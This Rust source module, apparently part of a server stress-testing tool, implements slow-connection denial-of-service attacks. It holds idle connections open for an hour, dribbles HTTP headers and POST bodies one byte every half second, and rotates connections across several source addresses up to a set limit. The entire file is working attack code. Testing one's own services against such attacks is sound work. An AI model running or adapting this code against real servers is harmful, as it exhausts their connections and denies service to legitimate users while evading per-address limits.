//! Connections that take their time: silent ones, and heads and bodies that come byte by byte.

use std::net::SocketAddr;
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::time::Duration;

use reqwest::Url;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;

use super::requests::{Requests, Tally, connect};
use super::target::attackers;
use super::{AttackError, Target};

/// From one byte to the next.
const SLOW: Duration = Duration::from_millis(500);
/// A connection that says no more.
const SILENT: Duration = Duration::from_secs(3600);

/// What an attacker says on a connection.
pub(super) struct Script {
    /// At once.
    pub(super) first: Vec<u8>,
    /// Then again and again.
    pub(super) then: Vec<u8>,
    pub(super) every: Duration,
}

pub(super) fn silent(target: &Target) -> Result<Requests, AttackError> {
    let (_, to) = target.http()?;
    held(target, "silent", to, vec![Script { first: Vec::new(), then: Vec::new(), every: SILENT }])
}

pub(super) fn slow_heads(target: &Target) -> Result<Requests, AttackError> {
    let (url, to) = target.plain_http()?;
    let first = format!("POST {} HTTP/1.1\r\nHost: {}\r\nX-Slow: ", url.path(), host(&url)).into_bytes();
    held(target, "slow-heads", to, vec![Script { first, then: b"a".to_vec(), every: SLOW }])
}

pub(super) fn slow_bodies(target: &Target) -> Result<Requests, AttackError> {
    let (url, to) = target.plain_http()?;
    let first = format!("{}Content-Length: 4000\r\n\r\nv=0\r\n", post(&url, target)).into_bytes();
    held(target, "slow-bodies", to, vec![Script { first, then: b"a".to_vec(), every: SLOW }])
}

/// The head of a POST to the URL, without its end.
pub(super) fn post(url: &Url, target: &Target) -> String {
    let token = target.token.as_ref().map(|token| format!("Authorization: Bearer {token}\r\n")).unwrap_or_default();
    format!("POST {} HTTP/1.1\r\nHost: {}\r\n{token}Content-Type: application/sdp\r\n", url.path(), host(url))
}

fn host(url: &Url) -> String {
    // A URL of HTTP has a host.
    let host = url.host_str().unwrap_or_default();
    url.port().map_or(host.to_owned(), |port| format!("{host}:{port}"))
}

/// Opens connections at the rate, from all addresses and with all scripts by turns, and keeps each for as long as the server does.
pub(super) fn held(target: &Target, name: &str, to: SocketAddr, scripts: Vec<Script>) -> Result<Requests, AttackError> {
    let (from, most, scripts) = (attackers(to.ip()), target.connections, Arc::new(scripts));
    let open = Arc::new(AtomicUsize::new(0));
    Requests::start(name, target.requests, move |mut turns, tally| async move {
        let mut turn = 0;
        while let Some(due) = turns.next().await {
            for _ in 0..due {
                if open.load(Ordering::Relaxed) >= most {
                    continue;
                }
                open.fetch_add(1, Ordering::Relaxed);
                turn += 1;
                let from = from[turn % from.len()];
                let (scripts, tally, open) = (Arc::clone(&scripts), tally.clone(), Arc::clone(&open));
                tokio::spawn(async move {
                    match connect(from, to).await {
                        Ok(stream) => {
                            tally.counts().connections += 1;
                            play(stream, &scripts[turn % scripts.len()], &tally).await;
                            tally.counts().closed += 1;
                        }
                        Err(_) => *tally.counts().answers.entry("none".into()).or_default() += 1,
                    }
                    open.fetch_sub(1, Ordering::Relaxed);
                });
            }
        }
    })
}

/// Says what the script has until the server closes.
async fn play(mut stream: TcpStream, script: &Script, tally: &Tally) {
    let mut buffer = [0; 4096];
    if !say(&mut stream, &script.first, tally).await {
        return;
    }
    loop {
        tokio::select! {
            read = stream.read(&mut buffer) => match read {
                Ok(0) | Err(_) => return,
                Ok(_) => {}
            },
            () = tokio::time::sleep(script.every) => {
                if !say(&mut stream, &script.then, tally).await {
                    return;
                }
            }
        }
    }
}

/// False if the server takes no more.
async fn say(stream: &mut TcpStream, bytes: &[u8], tally: &Tally) -> bool {
    let said = stream.write_all(bytes).await.is_ok();
    if said {
        tally.counts().request_bytes += bytes.len() as u64;
    }
    said
}
